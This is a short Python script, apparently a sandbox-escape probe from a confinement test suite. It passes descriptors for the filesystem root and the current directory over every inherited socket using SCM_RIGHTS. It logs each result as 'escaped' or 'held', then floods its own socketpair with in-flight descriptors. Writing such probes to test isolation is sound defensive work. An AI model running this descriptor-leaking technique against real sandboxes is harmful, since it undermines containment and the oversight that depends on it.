import array
import os
import socket
import stat

from aim import escaped, held

own = socket.socketpair()
descriptors = array.array("i", [os.open("/", os.O_PATH), os.open(".", os.O_RDONLY), 1, 2])
rights = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, descriptors.tobytes())]
mine = {end.fileno() for end in own}
for number in range(3, 1024):
    try:
        if not stat.S_ISSOCK(os.fstat(number).st_mode) or number in mine:
            continue
        with socket.socket(fileno=os.dup(number)) as opened:
            opened.setblocking(False)
            opened.sendmsg([b"run"], rights)
            escaped(f"sent descriptors on {number}")
            escaped(str(opened.recvmsg(1000, 1000)))
    except OSError as error:
        held(number, error)
for _ in range(2000):
    try:
        own[0].setblocking(False)
        own[0].sendmsg([b"x"], rights)
    except OSError as error:
        held("in flight", error)
        break
